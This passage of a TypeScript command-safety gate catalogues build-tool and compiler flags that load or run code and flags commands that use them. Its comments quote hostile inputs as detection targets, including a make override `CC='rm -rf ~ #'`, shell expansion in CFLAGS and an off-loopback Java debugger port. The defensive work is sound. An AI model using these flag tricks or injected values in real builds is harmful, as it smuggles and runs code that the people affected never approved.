 * (`script`: outside the workspace, or written this session, it is not ALLOW). `NAME=` entries are
 * build settings given as operands (`xcodebuild CC=…`, `make MAKEFILES=…`).
 */
const CODE_FLAGS: Record<string, readonly string[]> = wordTable({
  eslint: [
    "-c",
    "--config",
    "-f",
    "--format",
    "--rulesdir",
    "--plugin",
    "--parser",
    "--resolve-plugins-relative-to",
  ],
  prettier: ["--config", "--plugin", "--plugin-search-dir"],
  webpack: ["-c", "--config", "--config-name"],
  "webpack-cli": ["-c", "--config"],
  rollup: ["-c", "--config", "-p", "--plugin"],
  vite: ["-c", "--config", "--configLoader"],
  babel: ["--config-file", "--plugins", "--presets"],
  jest: [
    "-c",
    "--config",
    "--testResultsProcessor",
    "--reporters",
    "--filter",
    "--preset",
    "--globalSetup",
    "--globalTeardown",
    "--setupFiles",
    "--setupFilesAfterEnv",
    "--testRunner",
    "--testSequencer",
    "--transform",
    "--resolver",
    "--environment",
    "--testEnvironment",
    "--snapshotResolver",
  ],
  vitest: [
    "-c",
    "--config",
    "--pool",
    "--globalSetup",
    "--setupFiles",
    "--reporter",
    "--environment",
    "--workspace",
    "--coverage.customProviderModule",
    // gate62: a module exporting DiffOptions; node options for every worker; the typechecker run.
    "--diff",
    "--execArgv",
    "--typecheck.checker",
  ],
  mocha: ["--config", "--require", "-r", "--reporter", "-R", "--ui", "-u", "--file", "--package", "--opts"],
  pylint: ["--rcfile", "--load-plugins"],
  mypy: ["--config-file", "--python-executable"],
  flake8: ["--config", "--append-config"],
  // gate62: `--installpkg` installs that package (an sdist's setup.py and build backend run).
  tox: ["-c", "--conf", "--configfile", "--installpkg"],
  nox: ["-f", "--noxfile"],
  just: ["-f", "--justfile"],
  task: ["-t", "--taskfile"],
  ninja: ["-f"],
  meson: ["--native-file", "--cross-file"],
  // gate50: `-Dorg.gradle.java.home=D` runs D/bin/java (the build's JVM; gate54: any property
  // naming a program is read by propertyOptions).
  gradle: [
    "-I",
    "--init-script",
    "-b",
    "--build-file",
    "-c",
    "--settings-file",
    "-Dorg.gradle.java.installations.paths=",
    "-Porg.gradle.java.installations.paths=",
  ],
  mvn: ["-f", "--file", "-s", "--settings", "-gs", "--global-settings", "-t", "--toolchains"],
  mvnw: ["-f", "--file", "-s", "--settings", "-gs", "--global-settings"],
  ant: ["-f", "-file", "-buildfile", "-lib", "-propertyfile", "-main"],
  ctest: ["-S", "-SP", "--script", "-SR", "--extra-submit", "--resource-spec-file"],
  cpack: ["--config"],
  cmake: [
    "-P",
    "-C",
    "--toolchain",
    "-DCMAKE_TOOLCHAIN_FILE=",
    "-DCMAKE_PROJECT_INCLUDE=",
    "-DCMAKE_PROJECT_TOP_LEVEL_INCLUDES=",
  ],
  cargo: ["--config"],
  rustc: ["-C", "--codegen"],
  // gate54: `-Wl,…` and `-Xlinker …` are the linker's own options (ld64's -lto_library, ld's -plugin).
  gcc: [
    "-fplugin=",
    "-fpass-plugin=",
    "--ld-path=",
    "-fuse-ld=",
    "-load",
    "-B",
    "--gcc-toolchain=",
    "-Wl,",
    "-Xlinker",
  ],
  // gate50: `-ldflags='-linkmode external -extld P'` runs P as the linker.
  go: ["-vettool", "-toolexec", "-extld", "-exec", "-overlay", "-ldflags", "--ldflags"],
  // gate50: an extension loaded from a directory runs in the editor's extension host.
  code: ["--extensionDevelopmentPath", "--extensions-dir", "--extensionTestsPath"],
  xcodebuild: [
    "CC=",
    "CPLUSPLUS=",
    "LD=",
    "LDPLUSPLUS=",
    "LIBTOOL=",
    "SWIFT_EXEC=",
    "-xcconfig",
    "-toolchain",
  ],
  // gate62: a kubeconfig is code (a user's `exec:` credential plugin runs); a Gemfile is Ruby;
  // stylelint's configs, formatters and syntaxes are modules; deno's config and import map say
  // which code every import loads.
  kubectl: ["--kubeconfig"],
  helm: ["--kubeconfig"],
  bundle: ["--gemfile"],
  stylelint: ["-c", "--config", "--config-basedir", "--custom-formatter", "--custom-syntax"],
  deno: ["-c", "--config", "--import-map"],
  // gate44: modules node loads before the app (`--import data:…` is code inline).
  node: ["--import", "--loader", "--experimental-loader", "-r", "--require"],
  npm: ["--script-shell", "--userconfig", "--globalconfig", "--node-options"],
  pnpm: ["--config.script-shell", "--config.node-options", "--config.userconfig", "--userconfig"],
  yarn: ["--use-yarnrc"],
  // gate44: compiler flags a make recipe passes on (`CFLAGS=-B DIR` runs DIR/ld and DIR/as).
  make: ["MAKEFILES=", "SHELL=", "MAKEFLAGS=", "MFLAGS=", "CFLAGS=", "CXXFLAGS=", "CPPFLAGS=", "LDFLAGS="],
  pip: ["-r", "--requirement", "-c", "--constraint"],
  pip3: ["-r", "--requirement", "-c", "--constraint"],
  // gate54: what a compiler, REPL or runner is told to run or load besides the sources (a plugin
  // jar, a preprocessor or linker program, an init file, an extension, an ini whose addopts load
  // plugins). `*`: a family of flags (`-pgmF`, `-pgml`; `--with-compiler`, `--with-PROG`).
  kotlinc: ["-Xplugin=", "-Xcompiler-plugin="],
  ghc: ["-pgm*", "-fplugin-library=", "--ghc-options", "--ghc-option"],
  cabal: [
    "-w",
    "--with-*",
    "--ghc-options",
    "--ghc-option",
    "--ghcjs-options",
    "--gcc-options",
    "--ld-options",
  ],
  stack: ["--with-*", "--ghc-options", "--compiler"],
  ocaml: ["-init", "-ppx", "-pp"],
  ocamlc: ["-ppx", "-pp"],
  php: ["-F", "--process-file", "-c", "--php-ini", "-z", "--zend-extension", "-d", "--define"],
  pytest: ["-c", "--config-file", "-o", "--override-ini", "-p"],
  swiftc: ["-load-plugin-library", "-load-plugin-executable", "-plugin-path", "-external-plugin-path"],
  uv: ["-r", "--requirement", "-c", "--constraint", "--config-file"],
});
for (const [alias, of] of [
  ["gradlew", "gradle"],
  ["code-insiders", "code"],
  ["codium", "code"],
  ["cursor", "code"],
  ["windsurf", "code"],
  ["clang", "gcc"],
  ["clang++", "gcc"],
  ["cc", "gcc"],
  ["c++", "gcc"],
  ["g++", "gcc"],
  ["gmake", "make"],
  ["ghci", "ghc"],
  ["runghc", "ghc"],
  ["runhaskell", "ghc"],
  ["ocamlopt", "ocamlc"],
  ["ocamlfind", "ocamlc"],
  ["utop", "ocaml"],
  ["py.test", "pytest"],
  ["swift", "swiftc"],
] as const)
  CODE_FLAGS[alias] = CODE_FLAGS[of]!;

/**
 * Programs that run the file an operand names (gate44): `bats t.bats`, `elixir x.exs`, `ocaml x.ml`,
 * `gem build x.gemspec` (a gemspec is Ruby), `dotnet build x.proj` (MSBuild's Exec tasks run
 * commands). The file is code the command runs: a session artefact is judged as run, a file outside
 * the workspace is not ALLOW. `sub`: only after one of these subcommands; `all`: every operand (bats
 * runs every file and directory named), else the first; `values`: flags whose next word is theirs.
 */
interface FileRunner {
  sub?: readonly string[];
  all?: boolean;
  values?: readonly string[];
}
const FILE_RUNNERS: Record<string, FileRunner> = wordTable({
  bats: { all: true, values: ["-f", "--filter", "-j", "--jobs", "-F", "--formatter", "-o", "--output"] },
  elixir: { values: ["-e", "--eval", "-r", "-pr", "-pa", "-pz", "--erl", "--sname", "--name", "--cookie"] },
  escript: {},
  ocaml: { values: ["-I", "-open", "-init", "-ppx", "-w"] },
  runghc: {},
  runhaskell: {},
  gem: { sub: ["build"] },
  dotnet: {
    // gate62: `dotnet fsi x.fsx` runs an F# script.
    sub: ["build", "run", "test", "msbuild", "publish", "pack", "restore", "clean", "fsi"],
    values: [
      "-c",
      "-f",
      "-o",
      "-r",
      "-p",
      "--project",
      "--configuration",
      "--framework",
      "--output",
      "--runtime",
    ],
  },
  msbuild: {},
});

function fileRunner(r: FileRunner, words: Word[], ctx: EffectsCtx, fx: Effects): void {
  let i = 0;
  if (r.sub !== undefined) {
    const s = words.findIndex(isOperand);
    if (s < 0 || words[s]!.value === null || !r.sub.includes(words[s]!.value!)) return;
    i = s + 1;
  }
  for (; i < words.length; i++) {
    const v = words[i]!.value;
    if (v?.startsWith("-")) {
      // `dotnet build --project x.proj`: the project file is the one the build runs.
      if (v === "--project" || v === "-p") apply("script", v, words[i + 1]?.value ?? null, ctx, fx);
      if (r.values?.includes(v)) i++;
      continue;
    }
    apply("script", "operand", v, ctx, fx);
    if (!r.all) return;
  }
}

/** Values that are not files but say what the tool loads: a rustc codegen key, a node option, a cargo key. */
function codeValue(flag: string, v: string, program = ""): string | null {
  if (flag === "-C" || flag === "--codegen") {
    // rustc: `-C linker=PATH`; other codegen keys are not files.
    const m = /^(linker|link-arg|link-args)=(.*)$/.exec(v);
    return m ? m[2]!.replace(/^-fuse-ld=/, "") : null;
  }
  // cargo `--config KEY=VALUE`: profile and terminal keys are inert; others name programs
  // (build.rustc-wrapper, target.*.linker / runner, alias.*, env.*, source.*).
  if (flag === "--config" && v.includes("="))
    return /^(profile\.|term\.|build\.(jobs|incremental)\s*=)/.test(v) ? null : "";
  if (flag === "-fuse-ld=" && !v.includes("/")) return null;
  // node: `--import data:text/javascript,…` is the module's code; `--import tsx` a package.
  if (flag === "--import" || flag === "--loader" || flag === "--experimental-loader") {
    if (/^data:/i.test(v)) return "";
    return v.includes("/") || /\.[cm]?[jt]s$/.test(v) ? v : null;
  }

  // gate62: vitest `--execArgv=OPT`: an option of node's in every test worker (`--require=./x`).
  if (flag === "--execArgv") return execArgvLoad(v);
  // gate62: pytest `-p no:NAME` turns a plugin off; `-p NAME` imports whatever module of that
  // name is on sys.path (the project's, site-packages', any installed distribution's).
  if (flag === "-p" && (program === "pytest" || program === "py.test"))
    return v.startsWith("no:") ? null : "";

  // go `-ldflags='-extld P'`: the external linker go runs; `-extldflags` are that linker's flags.
  if (flag === "-ldflags" || flag === "--ldflags") {
    const m = /(?:^|\s)--?extld(?:=|\s+)(\S+)/.exec(v);
    if (m) return m[1]!;
    const x = /(?:^|\s)--?extldflags(?:=|\s+)(.*)$/s.exec(v);
    return x ? codeValue("LDFLAGS=", x[1]!.replace(/^['"]|['"]$/g, "")) : null;
  }
  // make `CFLAGS='-O2 -B DIR'`: the directories and plugins the compiler is told to run from.
  if (flag === "CFLAGS=" || flag === "CXXFLAGS=" || flag === "CPPFLAGS=" || flag === "LDFLAGS=") {
    const m = flagsLoad(v);
    return m !== null ? m : /(?:^|\s)-(?:Xclang|load|Wl,|Xlinker)/.test(v) ? "" : null;
  }
  // gate54: options given to another program as one word (`--ghc-options='-pgmF ./pp'`).
  if (FLAGS_VALUED.has(flag) || flag === "-Wl," || flag === "-Xlinker") return flagsLoad(v);
  // php `-d KEY=VALUE`: an ini key that loads a file or names a program (the others are settings).
  if (flag === "-d" || flag === "--define") {
    const m = /^\s*([\w.]+)\s*=\s*(.*)$/s.exec(v);
    if (m === null || !PHP_CODE_INI.test(m[1]!)) return null;
    return /sendmail_path$/.test(m[1]!) ? "" : m[2]!.replace(/^(["'])(.*)\1$/, "$2");
  }
  // pytest `-o KEY=VALUE`: addopts are options pytest reads as its own (`-p MOD` imports MOD), as
  // PYTEST_ADDOPTS and PYTEST_PLUGINS are.
  if (flag === "-o" || flag === "--override-ini") return /^\s*(addopts|\w*plugins)\s*=/.test(v) ? "" : null;
  // ocaml `-ppx 'CMD ARGS'`, `-pp CMD`: the command's program; a bare name is one on PATH.
  if (flag === "-ppx" || flag === "-pp" || flag.endsWith("*") || flag === "-w" || flag === "--compiler") {
    const prog = v.trim().split(/\s+/)[0] ?? "";
    return prog.includes("/") || prog.startsWith("~") ? prog : null;
  }
  if (
    flag === "--node-options" ||
    flag === "--config.node-options" ||
    flag === "MAKEFLAGS=" ||
    flag === "MFLAGS="
  )
    return "";
  return v;
}

/** node options that load nothing and open nothing (vitest `--execArgv`); any other is code or unknown. */
const INERT_NODE_OPTION =
  /^--(?:(?:max-old-space-size|max-semi-space-size|stack-size|unhandled-rejections|conditions|title)=[\w.-]+|expose-gc|enable-source-maps|no-warnings|trace-warnings|trace-deprecation|trace-uncaught|experimental-vm-modules|experimental-strip-types|no-experimental-[\w-]+|preserve-symlinks|frozen-intrinsics|abort-on-uncaught-exception)$/;
/** The loaders among node's options: their value is a module node loads first. */
const NODE_LOADER = /^(?:-r|--require|--import|--loader|--experimental-loader)$/;

/**
 * What one `--execArgv` value (an option of node's, or the value of the one before) makes node
 * load (gate62): `--require=./x` loads ./x; a bare `--require` takes the next `--execArgv`, judged
 * as the module it is; an inert option loads nothing; any other option is code the gate cannot bound.
 */
function execArgvLoad(v: string): string | null {
  if (!v.startsWith("-")) return v;
  const eq = v.indexOf("=");
  const opt = eq < 0 ? v : v.slice(0, eq);
  if (NODE_LOADER.test(opt)) return eq < 0 ? null : DATA_URL.test(v.slice(eq + 1)) ? "" : v.slice(eq + 1);
  return INERT_NODE_OPTION.test(v) ? null : "";
}

/**
 * Where each tool looks a module name up (gate62): the package name it makes of a bare name
 * (eslint's `-f json` is `eslint-formatter-json`, jest's `--testEnvironment jsdom` is
 * `jest-environment-jsdom`), by program and flag. A name the tool does not prefix is looked up
 * as it is. Builtins (`-f stylish`, `--reporter=verbose`) are names too: nothing in the workspace.
 */
const MODULE_PREFIX: Record<string, Record<string, string>> = wordTable({
  eslint: { "-f": "eslint-formatter-", "--format": "eslint-formatter-", "--plugin": "eslint-plugin-" },
  jest: {
    "--testEnvironment": "jest-environment-",
    "--environment": "jest-environment-",
    "--runner": "jest-runner-",
  },
  vitest: { "--environment": "vitest-environment-" },
});
/** An npm package name, a scope, or a name with a subpath (`dotenv/config`, `@scope/pkg`, `@scope`). */
const PACKAGE_NAME = /^@?[a-z0-9][\w.-]*(?:\/[\w.-]+)*$/i;

/** `name` with the tool's package prefix, as eslint's naming.normalizePackageName makes it. */
function prefixed(name: string, prefix: string): string {
  const m = /^(@[^/]+)(?:\/(.*))?$/.exec(name);
  if (m === null) return name.startsWith(prefix) ? name : `${prefix}${name}`;
  const rest = m[2] ?? "";
  if (rest === "") return `${m[1]}/${prefix.slice(0, -1)}`;
  return rest.startsWith(prefix) ? name : `${m[1]}/${prefix}${rest}`;
}

/**
 * The files a code flag's value makes the tool load (gate62): the value as a path, and for a
 * module name the package it resolves to in the workspace's node_modules (with the tool's prefix).
 * Each is judged as a file the command runs (a session-written one as run).
 */
function moduleFiles(program: string, flag: string, v: string): string[] {
  if (v.startsWith(".") || !PACKAGE_NAME.test(v) || !NODE_TOOLS.has(program)) return [v];
  const prefix = MODULE_PREFIX[program]?.[flag];
  const out = [v, `node_modules/${v}`];
  if (prefix !== undefined && prefixed(v, prefix) !== v) out.push(`node_modules/${prefixed(v, prefix)}`);
  return out;
}
/** Programs that resolve a module name in node_modules. */
const NODE_TOOLS = new Set([
  ...["eslint", "prettier", "stylelint", "jest", "vitest", "mocha", "node", "webpack", "webpack-cli"],
  ...["rollup", "vite", "babel"],
]);

/**
 * The last part of a flag's name that says its value is a module the runner loads (gate62): jest's
 * and vitest's options are their config's keys (`--coverage.customProviderModule`,
 * `--snapshotSerializers`, `--sequence.sequencer`), and a release adds more than any list holds.
 */
const MODULE_PART = new Set(
  "module modules setup setupfiles reporter reporters environment resolver runner sequencer transform transformer loader loaders preload serializer serializers formatter processor plugin plugins preset presets require import teardown provider config".split(
    " ",
  ),
);

/**
 * Flags of jest and vitest that no table lists and whose name says they load a module: the value
 * (`--x=v`, or the next word) is judged as one (gate62). `--no-…` turns something off.
 */
function namedCodeFlags(program: string, words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const known = SPECS[program]?.values ?? {};
  const loads = CODE_FLAGS[program] ?? [];
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null || !v.startsWith("--") || v.startsWith("--no-")) continue;
    const eq = v.indexOf("=");
    const flag = eq < 0 ? v : v.slice(0, eq);
    if (flag in known || loads.includes(flag)) continue;
    const parts = flag
      .slice(2)
      .replace(/([a-z0-9])([A-Z])/g, "$1 $2")
      .toLowerCase()
      .split(/[^a-z0-9]+/);
    if (!MODULE_PART.has(parts[parts.length - 1]!)) continue;
    const next = words[i + 1];
    const val =
      eq >= 0
        ? v.slice(eq + 1)
        : next !== undefined && next.value?.startsWith("-") !== true
          ? next.value
          : undefined;
    if (val === undefined) continue;
    if (val === null)
      floor(fx, `code: '${ctx.text}' loads code from a file only known at run time (${flag})`);
    else for (const m of moduleFiles(program, flag, val)) apply("script", flag, m, ctx, fx);
  }
}

/** Marks the values of the program's code flags (`CODE_FLAGS`) as code the command runs. */
function codeFlags(
  program: string,
  loads: readonly string[],
  words: Word[],
  ctx: EffectsCtx,
  fx: Effects,
): void {
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) continue;
    for (const f of loads) {
      let val: string | null | undefined;
      if (f.endsWith("*")) {
        // A family (`-pgmF P`, `--with-compiler=P`): each member names the program it runs.
        const stem = f.slice(0, -1);
        if (!v.startsWith(stem) || v.length === stem.length) continue;
        const eq = v.indexOf("=");
        val = eq > 0 ? v.slice(eq + 1) : (words[i + 1]?.value ?? null);
      } else if (f === "-Wl,") {
        if (v.startsWith(f)) val = v;
      } else if (f.endsWith("=")) {
        if (v.startsWith(f)) val = v.slice(f.length);
      } else if (v === "-Xlinker" && f === v) {
        // The linker's words: each `-Xlinker` passes the next one (`-Xlinker -plugin -Xlinker P`).
        val = words
          .slice(i, i + 4)
          .map((x) => x.value ?? "")
          .join(" ");
      } else if (v === f) {
        val = words[i + 1]?.value ?? null;
        // clang `-Xclang -load -Xclang ./p.dylib`: the plugin is the next -Xclang's value.
        if (f === "-load" && val === "-Xclang") val = words[i + 2]?.value ?? null;
      } else if (v.startsWith(`${f}=`)) val = v.slice(f.length + 1);
      else if (f.length === 2 && f[1] !== "-" && v.startsWith(f) && v.length > 2 && !v.startsWith("--"))
        val =
          f === "-r" ||
          f === "-c" ||
          f === "-f" ||
          f === "-C" ||
          f === "-S" ||
          f === "-I" ||
          f === "-B" ||
          f === "-d" ||
          f === "-w" ||
          f === "-p"
            ? v.slice(2)
            : undefined;
      if (val === undefined) continue;
      if (val === null) {
        floor(fx, `code: '${ctx.text}' loads code from a file only known at run time (${f})`);
        break;
      }
      const file = codeValue(f, val, program);
      if (file === null) break;
      if (file === "") floor(fx, `code: '${ctx.text}' gives the tool code or a command to run (${f})`);
      else if (namesBinary(f, file)) unreadProgram(fx, ctx, f, file);
      else for (const m of moduleFiles(program, f, file)) apply("script", f, m, ctx, fx);
      break;
    }
  }
}

/**
 * gate59: flags whose value is the interpreter or shell a tool runs: `uv run --python ./py`, `pip
 * --python ./py`, `tox --discover ./py` (each path is run to learn its version), `nox
 * --force-python ./py`, `yarn --script-shell ./x.sh`. A version or a bare name (`3.12`,
 * `python3.12`) the tool looks up itself; a path is a program the tool runs, judged as a script
 * (a session-written one as run, one outside the workspace not ALLOW). tox's and nox's list flags
 * take every word up to the next option.
 */
const INTERPRETER_FLAGS: Record<string, readonly string[]> = wordTable({
  uv: ["--python", "-p"],
  pip: ["--python"],
  pip3: ["--python"],
  pipx: ["--python"],
  virtualenv: ["-p", "--python"],
  tox: ["--discover"],
  nox: ["--force-python", "-P", "--extra-python", "--extra-pythons"],
  yarn: ["--script-shell"],
});
const LIST_FLAGS = new Set(["--discover", "--extra-python", "--extra-pythons"]);

function interpreterFlags(flags: readonly string[], words: Word[], ctx: EffectsCtx, fx: Effects): void {
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null || !v.startsWith("-")) continue;
    const eq = v.indexOf("=");
    const flag = eq < 0 ? v : v.slice(0, eq);
    const attached = flag.length > 2 && !flag.startsWith("--") && flags.includes(flag.slice(0, 2));
    if (!flags.includes(flag) && !attached) continue;
    const vals: (string | null)[] = [];
    if (attached) vals.push(v.slice(2));
    else if (eq >= 0) vals.push(v.slice(eq + 1));
    else
      for (let k = i + 1; k < words.length; k++) {
        const x = words[k]!.value;
        if (x?.startsWith("-")) break;
        vals.push(x);
        i = k;
        if (!LIST_FLAGS.has(flag)) break;
      }
    for (const x of vals)
      if (x === null) floor(fx, `code: '${ctx.text}' runs an interpreter only known at run time (${flag})`);
      else if (pathValue(x)) apply("script", flag, x, ctx, fx);
  }
}

/**
 * gate54: flags (of CODE_FLAGS or a property) whose value is a program or a native library the
 * tool runs or loads, not a source file: like a program run by its path (builtin:untrusted-program),
 * the gate cannot read what it runs, so the workspace is no better than elsewhere.
 */
const PROGRAM_FLAGS = new Set([
  ...["-fplugin=", "-fpass-plugin=", "-fplugin-library=", "--ld-path=", "-fuse-ld=", "-load", "-B"],
  ...["CC=", "CPLUSPLUS=", "LD=", "LDPLUSPLUS=", "LIBTOOL=", "SWIFT_EXEC="],
  ...["-vettool", "-toolexec", "-extld", "-exec", "--python-executable", "-z", "--zend-extension"],
  ...["-Xplugin=", "-Xcompiler-plugin=", "-ppx", "-pp", "-w", "--compiler", "-pgm*", "--with-*"],
  ...["-Wl,", "-Xlinker"],
  // gate62: vitest's typechecker (`tsc`, `vue-tsc`, or an executable's path).
  "--typecheck.checker",
  ...["-load-plugin-library", "-load-plugin-executable", "-plugin-path", "-external-plugin-path"],
  // What flagsLoad finds in a string of options is a program or library too.
  ...["CFLAGS=", "CXXFLAGS=", "CPPFLAGS=", "LDFLAGS=", "-ldflags", "--ldflags"],
  ...["--ghc-options", "--ghc-option", "--ghcjs-options", "--gcc-options", "--ld-options"],
]);
/** Files that are compiled code or an archive of it: a jar, a shared library, an executable. */
const BINARY_FILE = /\.(?:jar|so(?:\.\d+)*|dylib|dll|exe|bundle|node|ez|wasm)$/i;
/** Flags whose value is a string of another program's options (read by flagsLoad). */
const FLAGS_VALUED = new Set([
  ...["--ghc-options", "--ghc-option", "--ghcjs-options", "--gcc-options", "--ld-options"],
]);
/** php ini keys whose value is code php loads or a program it runs (php.ini's documentation). */
const PHP_CODE_INI = /^(?:zend_)?extension(?:_dir)?$|^auto_(?:prepend|append)_file$|preload$|^sendmail_path$/;

function namesBinary(flag: string, file: string): boolean {
  return BINARY_FILE.test(file) || (PROGRAM_FLAGS.has(flag) && (file.includes("/") || file.startsWith("~")));
}

function unreadProgram(fx: Effects, ctx: EffectsCtx, flag: string, file: string): void {
  floor(
    fx,
    `code: '${ctx.text}' runs or loads '${file}' as a program or library (${flag}): the gate cannot read what it runs`,
  );
  fx.reads.push(file);
}

/**
 * gate54: properties a build tool takes as options (`-Dk=v` for the JVM's tools, `-p:k=v` for
 * MSBuild, `K=V` build settings for xcodebuild) are judged by their key's parts, not a list of
 * keys: a key that names a program, a toolchain's home, a plugin or an agent (maven's `jvm`,
 * `maven.compiler.executable`, `org.gradle.java.home`, MSBuild's `CscToolPath`) with a path value
 * is a program the tool runs; a key that holds options (`argLine`, `org.gradle.jvmargs`,
 * `OTHER_CFLAGS`) is read by flagsLoad. The same rule judges variables (`propertyNames`).
 */
const PROPERTY_SPELLINGS: Record<string, readonly string[]> = wordTable({
  mvn: ["-D"],
  mvnw: ["-D"],
  gradle: ["-D", "-P"],
  gradlew: ["-D", "-P"],
  sbt: ["-D"],
  ant: ["-D"],
  java: ["-D"],
  kotlin: ["-D"],
  scala: ["-D"],
  lein: ["-D"],
  bazel: ["--define=", "--action_env=", "--host_action_env=", "--repo_env="],
  dotnet: ["-p:", "/p:", "-property:", "/property:", "--property:", "-rp:", "-restoreProperty:"],
  msbuild: ["-p:", "/p:", "-property:", "/property:", "-rp:", "/rp:", "-restoreProperty:"],
  xcodebuild: [""],
});

/** A value that is a path (not a bare name looked up on PATH, not a number or a word). */
function pathValue(v: string): boolean {
  return v.includes("/") || v.startsWith("~") || v.startsWith(".");
}

function propertyOptions(spellings: readonly string[], words: Word[], ctx: EffectsCtx, fx: Effects): void {
  for (const w of words) {
    const v = w.value;
    if (v === null || v.length < 3) continue;
    for (const sp of spellings) {
      if (sp === "" ? !/^[A-Z][A-Z0-9_]*=/.test(v) : !v.startsWith(sp)) continue;
      // MSBuild takes several in one: `-p:A=1;B=2` (`,` too).
      const body = v.slice(sp.length);
      for (const kv of sp.startsWith("-p:") || sp.includes("property") || sp.endsWith("p:")
        ? body.split(/[;,](?=\s*[\w.]+=)/)
        : [body]) {
        const eq = kv.indexOf("=");
        if (eq <= 0) continue;
        const key = kv.slice(0, eq);
        const val = kv.slice(eq + 1).replace(/^(["'])(.*)\1$/, "$2");
        const kind = propertyKind(key);
        if (kind === "program") {
          if (pathValue(val.trim().split(/\s+/)[0] ?? "")) unreadProgram(fx, ctx, `${sp}${key}=`, val);
        } else if (kind === "options") {
          const file = flagsLoad(val);
          if (file === "")
            floor(fx, `code: '${ctx.text}' gives the tool code or a command to run (${sp}${key}=)`);
          else if (file !== null) unreadProgram(fx, ctx, `${sp}${key}=`, file);
        }
      }
      break;
    }
  }
}

/** make variables that name a program (or a shell) the recipes run: an override of one is code. */
const MAKE_PROGRAM_VAR =
  /^(SHELL|MAKE|CC|CXX|CPP|FC|LD|AR|AS|NM|RANLIB|STRIP|OBJCOPY|YACC|LEX|RM|CP|MV|LN|MKDIR|INSTALL|PYTHON\d*|NODE|NPM|GO|CARGO|RUSTC|JAVAC?|PERL|RUBY|HOSTCC|HOSTCXX|\w*_(CC|CXX|LD|CMD|COMMAND|PROG|PROGRAM|TOOL|WRAPPER|LAUNCHER|SHELL))$/;
/** cmake cache variables that name a program run at build time, or a script read at configure time. */
const CMAKE_CODE_VAR =
  /^(CMAKE_\w*_COMPILER(_LAUNCHER)?|CMAKE_\w*_LINKER(_LAUNCHER)?|CMAKE_\w*_(CLANG_TIDY|CPPCHECK|CPPLINT|INCLUDE_WHAT_YOU_USE|LINK_WHAT_YOU_USE)|CMAKE_MAKE_PROGRAM|CMAKE_TOOLCHAIN_FILE|CMAKE_PROJECT_\w*INCLUDE\w*|CMAKE_USER_MAKE_RULES_OVERRIDE\w*|CMAKE_AR|CMAKE_RANLIB|CMAKE_LINKER|CMAKE_CROSSCOMPILING_EMULATOR)(:\w+)?$/;

/**
 * Build tools whose arguments carry code (issue 19, red28): a make override that names a program
 * or holds shell syntax (`make CC='rm -rf ~ #'`, `CFLAGS='$(shell …)'`), `make -j` with no bound,
 * a cmake launcher or compiler, `pylint --init-hook`, `tox -x`, `mvn exec:exec`, `libtool
 * --mode=execute`, `cargo --config` naming a wrapper or runner.
 */
function buildToolCode(program: string, words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const code = (why: string) => floor(fx, `code-runner: '${ctx.text}' ${why}`);
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    const next = words[i + 1]?.value;
    switch (program) {
      case "make":
      case "gmake": {
        if (v === null) continue;
        const a = /^([A-Za-z_][A-Za-z0-9_.-]*)\s*[:+?!]*=(.*)$/s.exec(v);
        if (a && !v.startsWith("-") && (MAKE_PROGRAM_VAR.test(a[1]!) || /[$`;|&<>()]/.test(a[2]!)))
          code(`overrides ${a[1]}, which the recipes run or expand as shell`);
        let n: string | undefined;
        if (v === "--jobs" || /^-[a-zA-Z]*j$/.test(v)) n = next && /^\d+$/.test(next) ? next : "";
        else if (v.startsWith("--jobs=")) n = v.slice(7);
        else if (/^-[a-zA-Z]*j\d+$/.test(v)) n = v.replace(/^-[a-zA-Z]*j/, "");
        if (n !== undefined && (n === "" || Number(n) > 64))
          floor(
            fx,
            `resources: '${ctx.text}' starts an unbounded number of jobs (-j ${n || "without a bound"})`,
          );
        break;
      }
      case "cmake": {
        if (v === null) continue;
        const d = v === "-D" ? next : v.startsWith("-D") ? v.slice(2) : undefined;
        if (d === null) code("sets a cache variable only known at run time");
        else if (d !== undefined && CMAKE_CODE_VAR.test(d.split("=")[0]!))
          code(`sets ${d.split("=")[0]}, a program or script cmake runs`);
        break;
      }
      case "pylint":
        if (v === null || v === "--init-hook" || v.startsWith("--init-hook="))
          code("runs inline Python (--init-hook)");
        break;
      case "tox":
        if (v === null || v === "-x" || v === "--override" || v.startsWith("--override=") || /^-x./.test(v))
          code("overrides the configuration (-x), test commands included");
        break;
      case "mvn":
      case "mvnw":
        if (
          v === null ||
          /(^|:)(exec:(exec|java)|antrun:run)$|exec-maven-plugin|maven-antrun|^-Dexec\./.test(v)
        )
          code("runs a program through a plugin (exec, antrun)");
        // `-Dmaven.surefire.debug='-agentlib:jdwp=…,address=*:5005'`: a debugger port off loopback
        // runs whatever code reaches it (the bare flag listens on localhost:5005).
        else if (/jdwp=.*\baddress=(?!(?:localhost|127\.0\.0\.1|\[?::1\]?)?:?\d+(?:,|$))/.test(v))
          floor(
            fx,
            `remote-code: '${ctx.text}' opens a Java debugger port beyond loopback (whoever reaches it runs code)`,
          );
        break;
      case "libtool":
      case "glibtool":
        if (
          v === null ||
          /^--mode=e/.test(v) ||
          (v === "--mode" && next?.startsWith("e")) ||
          v === "--execute"
        )
          code("runs a command (--mode=execute)");
        break;
      case "cargo": {
        const c = v === "--config" ? next : v?.startsWith("--config=") ? v.slice(9) : undefined;
        if (c === null) code("sets configuration only known at run time");
        else if (c?.includes("=") && !/^\s*(profile|term)\./.test(c))
          code(
            `sets configuration inline (--config ${c.split("=")[0]}), which can name a program cargo runs`,
          );
        break;
      }
    }
  }
}

/** Python modules that listen on the network when run with `-m`. */
const LISTENER_MODULES = new Set([
  "http.server",
  "SimpleHTTPServer",
  "CGIHTTPServer",
  "smtpd",
  "aiosmtpd",
  "pyftpdlib",
  "xmlrpc.server",
  "wsgiref.simple_server",
]);

/** Variable names that hold credentials: `printenv NAME` and `echo "$NAME"` read a secret (one list). */
// A database URL or DSN carries its password (`postgres://u:pw@h/db`); a webhook URL is the
// credential that posts to it (`SLACK_WEBHOOK_URL`); a JWT or bearer value is a token
// (`CI_JOB_JWT`, `ACTIONS_ID_TOKEN_REQUEST_*`); `*_PAT` is a personal access token.
// gate52: a rule over the name's parts, not a list of services: any `<SERVICE>_URL` / `_URI` holds
// its userinfo (`CELERY_BROKER_URL`, `RABBITMQ_URL`, `SMTP_URL`, `DB_URL`); a BROKER, a connection
